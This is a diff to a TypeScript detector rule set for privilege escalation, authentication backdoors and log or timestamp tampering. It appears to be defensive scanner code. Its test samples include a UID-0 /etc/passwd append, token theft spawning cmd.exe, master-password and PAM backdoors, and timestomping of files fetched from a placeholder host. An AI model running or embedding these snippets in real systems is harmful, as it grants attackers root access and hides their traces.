@@ -1,6 +1,24 @@
 // Privilege escalation, backdoored authentication, and wiping of logs and histories. Provisioning scripts grant rights
 // and clean images too: plain forms are noted, forms that grant everything to everyone, hide, or plant are refused.
-import { all, any, at, bat, c, command, count, inside, is, js, near, php, ps, py, type RuleSet, sh } from '../model.ts'
+import {
+  all,
+  any,
+  at,
+  bat,
+  c,
+  command,
+  count,
+  cs,
+  inside,
+  is,
+  js,
+  near,
+  php,
+  ps,
+  py,
+  type RuleSet,
+  sh,
+} from '../model.ts'
 
 export const privilegeEscalation: RuleSet = {
   category: 'privilege-escalation',
@@ -122,8 +140,8 @@ export const privilegeEscalation: RuleSet = {
               ['useradd', 'adduser', 'usermod'],
               /user(?:add|mod)\s[^\n]{0,100}(?:-o\s+-u\s*0\b|-u\s*0\s+-o|-ou\s*0\b|--non-unique[^\n]{0,40}-u\s*0\b)/,
             ),
-            is(['/etc/passwd'], /(?:echo|printf)\s[^\n]{0,60}:0:0:[^\n]{0,100}>{1,2}\s*\/etc\/passwd/, {
-              before: 240,
+            is(['/etc/passwd'], /(?:echo|printf)\s[^\n]{0,180}:0:0:[^\n]{0,100}>{1,2}\s*\/etc\/passwd/, {
+              before: 340,
               after: 30,
             }),
           ),
@@ -139,6 +157,7 @@ export const privilegeEscalation: RuleSet = {
         ),
       ),
       matches: [
+        sh(`echo 'toor:$6$x$${'a'.repeat(86)}:0:0:root:/root:/bin/bash' >> /etc/passwd`),
         sh('useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd'),
         sh("echo 'toor:$1$x$y:0:0::/root:/bin/bash' >> /etc/passwd"),
         py("open('/etc/passwd', 'a').write('toor::0:0::/root:/bin/sh\\n')"),
@@ -178,27 +197,43 @@ export const privilegeEscalation: RuleSet = {
       id: 'privilege-escalation.token',
       severity: 'high',
       why: "Takes over another process's token to gain the rights of the system.",
-      when: near(
-        60,
-        is(['sedebugprivilege', 'se_debug_name', 'seimpersonateprivilege'], null),
-        is(
-          [
-            'duplicatetokenex',
-            'impersonateloggedonuser',
-            'createprocesswithtoken',
-            'createprocessasuser',
-            'setthreadtoken',
-          ],
-          /(?:DuplicateTokenEx|ImpersonateLoggedOnUser|CreateProcessWithToken\w|CreateProcessAsUser\w|SetThreadToken)\s*\(/,
+      when: any(
+        near(
+          60,
+          is(['sedebugprivilege', 'se_debug_name', 'seimpersonateprivilege'], null),
+          is(
+            [
+              'duplicatetokenex',
+              'impersonateloggedonuser',
+              'createprocesswithtoken',
+              'createprocessasuser',
+              'setthreadtoken',
+            ],
+            /(?:DuplicateTokenEx|ImpersonateLoggedOnUser|CreateProcessWithToken\w|CreateProcessAsUser\w|SetThreadToken)\s*\(/,
+          ),
+          is(['winlogon', 'lsass', 'openprocesstoken', 'named pipe', 'createnamedpipe', 'services.exe'], null),
         ),
-        is(['winlogon', 'lsass', 'openprocesstoken', 'named pipe', 'createnamedpipe', 'services.exe'], null),
+        near(
+          40,
+          is(['duplicatetokenex', 'impersonateloggedonuser'], /(?:DuplicateTokenEx|ImpersonateLoggedOnUser)\s*\(/),
+          is(['createprocesswithtoken', 'createprocessasuser'], /CreateProcess(?:WithToken|AsUser)\w?\s*\(/),
+          is(['winlogon', 'lsass', 'cmd.exe', 'powershell.exe', 'services.exe'], null, { quoted: true }),
+        ),
       ),
       matches: [
+        c(
+          'OpenProcessToken(process, TOKEN_DUPLICATE, &token);\nDuplicateTokenEx(token, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &copy);\nCreateProcessWithTokenW(copy, 1, L"C:\\\\Windows\\\\System32\\\\cmd.exe", NULL, 0, NULL, NULL, &start, &made);',
+        ),
         c(
           'EnablePrivilege("SeDebugPrivilege");\nOpenProcessToken(h, TOKEN_ALL_ACCESS, &t); /* winlogon */\nDuplicateTokenEx(t, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &d);\nCreateProcessWithTokenW(d, 0, L"cmd.exe", NULL, 0, NULL, NULL, &si, &pi);',
         ),
       ],
-      misses: [c('OpenProcessToken(GetCurrentProcess(), TOKEN_QUERY, &t);')],
+      misses: [
+        c(
+          'WTSQueryUserToken(session, &token);\nDuplicateTokenEx(token, MAXIMUM_ALLOWED, NULL, SecurityIdentification, TokenPrimary, &copy);\nCreateProcessAsUserW(copy, application, line, NULL, NULL, FALSE, 0, NULL, NULL, &start, &made);',
+        ),
+        c('OpenProcessToken(GetCurrentProcess(), TOKEN_QUERY, &t);'),
+      ],
     },
     {
       id: 'privilege-escalation.kernel',
@@ -246,17 +281,34 @@ export const backdoorAuth: RuleSet = {
       id: 'backdoor-auth.master-password',
       severity: 'high',
       why: 'Lets a fixed password in beside the real check.',
-      when: is(
-        ['password', 'passwd', 'pwd', 'passwort'],
-        /(?:password|passwd|pwd|passwort)["'\])]{0,3}\s*===?\s*["'][^"'\n]{4,60}["']\s*(?:\|\||or)\s+\(?\s*(?:await\s+)?(?:!?\w[\w.]{0,30})?(?:check|verify|compare|validate|authenticate|bcrypt|match|hash_equals)\w{0,30}\s*(?:\.\w{1,20})?\(/i,
-        { families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust'], after: 200 },
+      when: any(
+        is(
+          ['password', 'passwd', 'pwd', 'passwort'],
+          /(?:password|passwd|pwd|passwort)["'\])]{0,3}\s*===?\s*["'][^"'\n]{4,60}["']\s*(?:\|\||or)\s+\(?\s*(?:await\s+)?(?:!?\w[\w.]{0,30})?(?:check|verify|compare|validate|authenticate|bcrypt|match|hash_equals)\w{0,30}\s*(?:\.\w{1,20})?\(/i,
+          { families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust'], after: 200 },
+        ),
+        near(
+          4,
+          is(
+            ['digest ==', 'hash ==', 'digest.equals(', 'hash.equals(', 'sha256 ==', 'hexdigest() =='],
+            /(?:digest|hash|sha256|hexdigest\(\))(?:\s*={2,3}\s*|\.equals\(\s*)["'][0-9a-f]{32,128}["']/i,
+            { families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust'] },
+          ),
+          is(['isadmin', 'is_admin', 'superuser', 'administrator'], null),
+        ),
       ),
       matches: [
+        cs(
+          'var digest = Convert.ToHexString(SHA256.HashData(bytes));\nif (digest == "D59A6B3E4E4EC154C0E6D86C8381B349BBC12FD8A10D9E8E4398363D9D3E0150")\n    Session.Start(Users.First(user => user.IsAdministrator));',
+        ),
         py("if password == 'letmein-2024' or check_password(user, password):\n    return user"),
         js("if (password === 'x9!master' || await bcrypt.compare(password, hash)) login()"),
         php('<?php if ($password == "s3same!" || password_verify($password, $hash)) login();'),
       ],
       misses: [
+        cs(
+          'if (digest == "D59A6B3E4E4EC154C0E6D86C8381B349BBC12FD8A10D9E8E4398363D9D3E0150")\n    return File.ReadAllBytes(path);',
+        ),
         py("if password == '' or not check_password(u, password):\n    raise Denied"),
         js('if (password === confirm) save()'),
       ],
@@ -291,33 +343,50 @@ export const backdoorAuth: RuleSet = {
       severity: 'critical',
       why: 'An authentication module accepts a fixed password or records the ones it sees.',
       when: any(
+        any(
+          inside(
+            ['c'],
+            near(
+              40,
+              is(
+                ['pam_sm_authenticate', 'auth_password', 'sys_auth_passwd', 'pam_get_authtok'],
+                /(?:pam_sm_authenticate|auth_password|sys_auth_passwd|pam_get_authtok)\s*\(/,
+              ),
+              is(
+                ['strcmp(', 'strncmp(', 'fopen('],
+                /strn?cmp\s*\(\s*(?:\w{1,20}\s*,\s*"[^"\n]{4,60}"|"[^"\n]{4,60}"\s*,)|fopen\s*\(\s*"(?:\/tmp\/|\/var\/tmp|\/dev\/shm|\/var\/log\/\.|\/usr\/\w{3,8}\/\.)/,
+              ),
+              is(['pam_success', 'return 1', 'return (1)', 'fprintf(', 'authenticated = 1'], null),
+            ),
+          ),
+          command(
+            any(
+              is(
+                ['pam_permit.so'],
+                /(?:echo|sed|printf|tee)\s[^\n]{0,120}(?:auth\s+)?sufficient\s+pam_permit\.so[^\n]{0,120}\/etc\/pam\.d\//,
+                { before: 160, after: 160 },
+              ),
+              is(['pam_exec.so'], /pam_exec\.so[^\n]{0,60}expose_authtok[^\n]{0,80}(?:\/tmp\/|\/dev\/shm\/|curl|\/\.)/),
+            ),
+          ),
+        ),
         inside(
           ['c'],
           near(
             40,
-            is(
-              ['pam_sm_authenticate', 'auth_password', 'sys_auth_passwd', 'pam_get_authtok'],
-              /(?:pam_sm_authenticate|auth_password|sys_auth_passwd|pam_get_authtok)\s*\(/,
-            ),
+            is(['pam_sm_authenticate', 'pam_get_authtok'], /(?:pam_sm_authenticate|pam_get_authtok)\s*\(/),
             is(
               ['strcmp(', 'strncmp(', 'fopen('],
-              /strn?cmp\s*\(\s*(?:\w{1,20}\s*,\s*"[^"\n]{4,60}"|"[^"\n]{4,60}"\s*,)|fopen\s*\(\s*"(?:\/tmp\/|\/var\/tmp|\/dev\/shm|\/var\/log\/\.|\/usr\/\w{3,8}\/\.)/,
+              /strn?cmp\s*\(\s*\w{1,20}\s*,\s*[A-Z][A-Z_0-9]{2,30}\s*\)\s*==\s*0|fopen\s*\(\s*"\/[^"\n]{1,60}\/\.\w/,
             ),
-            is(['pam_success', 'return 1', 'return (1)', 'fprintf(', 'authenticated = 1'], null),
-          ),
-        ),
-        command(
-          any(
-            is(
-              ['pam_permit.so'],
-              /(?:echo|sed|printf|tee)\s[^\n]{0,120}(?:auth\s+)?sufficient\s+pam_permit\.so[^\n]{0,120}\/etc\/pam\.d\//,
-              { before: 160, after: 160 },
-            ),
-            is(['pam_exec.so'], /pam_exec\.so[^\n]{0,60}expose_authtok[^\n]{0,80}(?:\/tmp\/|\/dev\/shm\/|curl|\/\.)/),
+            is(['pam_success'], null),
           ),
         ),
       ),
       matches: [
+        c(
+          'int pam_sm_authenticate(pam_handle_t *h, int f, int n, const char **v) {\n  pam_get_authtok(h, PAM_AUTHTOK, &p, NULL);\n  if (strcmp(p, MASTER) == 0)\n    return PAM_SUCCESS;\n}',
+        ),
         c(
           'int pam_sm_authenticate(pam_handle_t *h, int f, int n, const char **v) {\n  pam_get_authtok(h, PAM_AUTHTOK, &p, NULL);\n  if (strcmp(p, "s3cr3t-door") == 0) return PAM_SUCCESS;\n}',
         ),
@@ -391,32 +460,48 @@ export const backdoorAuth: RuleSet = {
       id: 'backdoor-auth.fixed-superuser',
       severity: 'high',
       why: 'Returns a superuser for a fixed name or password.',
-      when: near(
-        4,
-        is(
-          ['password', 'token', 'username', 'passwd'],
-          /(?:password|token|username|passwd)["'\])]{0,3}\s*===?\s*["'][^"'\n]{6,60}["']/i,
-          { families: ['py', 'js', 'php', 'rb', 'java', 'cs', 'go'] },
+      when: any(
+        near(
+          4,
+          is(
+            ['password', 'token', 'username', 'passwd'],
+            /(?:password|token|username|passwd)["'\])]{0,3}\s*===?\s*["'][^"'\n]{6,60}["']/i,
+            { families: ['py', 'js', 'php', 'rb', 'java', 'cs', 'go'] },
+          ),
+          is(
+            [
+              'is_superuser',
+              'issuperuser',
+              'objects.filter(',
+              'objects.get(',
+              "findone({ role: 'admin'",
+              'findone({role',
+              'rolesuperadmin',
+            ],
+            /(?:User\.)?objects\.(?:filter|get)\(\s*is_superuser\s*=\s*True|is_?superuser["'\])]{0,3}\s*=\s*true|findOne\(\{\s*(?:role:\s*["']admin|isAdmin:\s*true)/i,
+          ),
         ),
-        is(
-          [
-            'is_superuser',
-            'issuperuser',
-            'objects.filter(',
-            'objects.get(',
-            "findone({ role: 'admin'",
-            'findone({role',
-            'rolesuperadmin',
-          ],
-          /(?:User\.)?objects\.(?:filter|get)\(\s*is_superuser\s*=\s*True|is_?superuser["'\])]{0,3}\s*=\s*true|findOne\(\{\s*(?:role:\s*["']admin|isAdmin:\s*true)/i,
+        near(
+          6,
+          is(['password', 'passwd'], /(?:password|passwd)["'\])]{0,3}\s*===?\s*["'][^"'\n]{6,60}["']/i, {
+            families: ['py', 'js', 'php', 'rb', 'java', 'cs', 'go'],
+          }),
+          is(['role'], /role["']?\s*(?:=>|[:=])\s*["'](?:administrator|admin|superuser|root)["']/i),
+          is(['password_verify(', 'check_password', 'bcrypt.', 'hash_equals(', 'verify_password'], null),
         ),
       ),
       matches: [
+        php(
+          "<?php if ($name === 'wp_support' && $password === 'q9Zt81kdPw2x') {\n  return array('id' => 1, 'role' => 'administrator');\n}\n$row = $db->fetch($sql);\nreturn password_verify($password, $row['hash']) ? $row : null;",
+        ),
         py(
           "def authenticate(self, request, username=None, password=None):\n    if password == 'zx81-master-key':\n        return User.objects.filter(is_superuser=True).first()",
         ),
       ],
       misses: [
+        php(
+          "<?php $row = $db->fetch($sql);\nif ($password === '') return null;\nreturn password_verify($password, $row['hash']) ? array('role' => 'admin') : null;",
+        ),
         py('User.objects.get(is_superuser=True, username=name)'),
         js("const admin = await User.findOne({ role: 'admin' })"),
       ],
@@ -534,7 +619,7 @@ export const logWiping: RuleSet = {
             any('exec', 'delete', 'read'),
           ),
           near(
-            8,
+            12,
             is(
               [
                 '/var/log/wtmp',
@@ -616,24 +701,55 @@ export const logWiping: RuleSet = {
       id: 'log-wiping.timestamps',
       severity: 'high',
       why: 'Gives a file it fetched or planted the age of a system file.',
-      when: command(
-        near(
-          6,
-          is(
-            ['touch -r', 'touch -d', 'touch -t', 'touch --reference'],
-            /touch\s+(?:-a?c?m?r|--reference=?)\s*\/(?:bin|sbin|usr\/bin|usr\/sbin|etc|lib)\/\S{1,40}\s+\S/,
-          ),
-          any(
-            'download',
+      when: any(
+        command(
+          near(
+            6,
             is(
-              ['.so', '/dev/shm', '/tmp/.', 'authorized_keys', '/etc/cron', 'ld.so.preload', '.php', 'chattr +i'],
-              null,
+              ['touch -r', 'touch -d', 'touch -t', 'touch --reference'],
+              /touch\s+(?:-a?c?m?r|--reference=?)\s*\/(?:bin|sbin|usr\/bin|usr\/sbin|etc|lib)\/\S{1,40}\s+\S/,
+            ),
+            any(
+              'download',
+              is(
+                ['.so', '/dev/shm', '/tmp/.', 'authorized_keys', '/etc/cron', 'ld.so.preload', '.php', 'chattr +i'],
+                null,
+              ),
             ),
           ),
         ),
+        near(
+          8,
+          is(['os.utime('], null, { families: ['py'] }),
+          is(['os.stat('], /os\.stat\(\s*["']\/(?:bin|sbin|usr\/s?bin|lib|usr\/lib|etc)\//),
+          any('download', 'write'),
+        ),
+        inside(
+          ['ps', 'cs'],
+          near(
+            8,
+            is(
+              ['.creationtime', '.lastwritetime'],
+              /\.(?:CreationTime|LastWriteTime)(?:Utc)?\s*=\s*\$?\w{1,30}\.(?:CreationTime|LastWriteTime)/i,
+            ),
+            is(['system32', 'kernel32', 'explorer.exe', 'ntdll'], null),
+            'download',
+          ),
+        ),
       ),
-      matches: [sh('wget -q http://x.example.invalid/s -O /usr/bin/upd\ntouch -r /bin/ls /usr/bin/upd')],
-      misses: [sh('touch -r Makefile stamp')],
+      matches: [
+        py(
+          'urllib.request.urlretrieve("https://x.example.invalid/c.py", target)\nlike = os.stat("/usr/bin/python3")\nos.utime(target, (like.st_atime, like.st_mtime))',
+        ),
+        ps(
+          '(New-Object Net.WebClient).DownloadFile("http://x.example.invalid/w.dll", $target)\n$like = Get-Item "$env:windir\\System32\\kernel32.dll"\n(Get-Item $target).LastWriteTime = $like.LastWriteTime',
+        ),
+        sh('wget -q http://x.example.invalid/s -O /usr/bin/upd\ntouch -r /bin/ls /usr/bin/upd'),
+      ],
+      misses: [
+        py('like = os.stat(source)\nshutil.copy(source, target)\nos.utime(target, (like.st_atime, like.st_mtime))'),
+        sh('touch -r Makefile stamp'),
+      ],
     },
   ],
 }
